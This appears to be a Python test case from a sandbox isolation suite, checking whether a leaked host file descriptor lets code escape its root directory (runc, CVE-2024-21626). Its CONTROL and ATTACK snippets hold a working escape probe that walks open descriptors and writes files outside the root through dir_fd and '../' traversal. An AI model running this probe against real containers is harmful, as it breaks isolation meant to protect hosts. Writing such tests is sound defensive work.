"""A descriptor of the host's that was left open is a way out of any root directory (runc, CVE-2024-21626)."""

CLASS = "ipc"
REQUIREMENT = "F6"
CONTROL = '''
TRY = """
import os, sys
for fd in range(3, 1024):
    for path in ("leaked", "../leaked", "../../../../../../../.." + sys.argv[1] + "/leaked"):
        try:
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fd))
            print("wrote by descriptor", fd, path)
        except OSError:
            pass
"""
left = os.open(HOST["outside"], os.O_RDONLY)
ran = subprocess.run([sys.executable, "-I", "-c", TRY, HOST["outside"]], pass_fds=[left], capture_output=True, text=True)
say(wrote=ran.stdout.splitlines())
'''
ATTACK = """
opened = {}
for name in os.listdir("/proc/self/fd"):
    if int(name) > 2 and os.path.lexists("/proc/self/fd/" + name):
        opened[name] = os.readlink("/proc/self/fd/" + name)
for fd in range(3, 4096):
    for path in ("leaked", "../leaked", "../../../../../../../.." + HOST["outside"] + "/leaked"):
        outcome(lambda: os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fd)))
say(open=opened, wrote=[])
"""


def observe(before, after):
    if after["outside"] != before["outside"]:
        return "ESCAPED", f"written outside: {after['said']['wrote']}"
    return "BLOCKED", f"descriptors that lead anywhere: {after['said']['open']}"
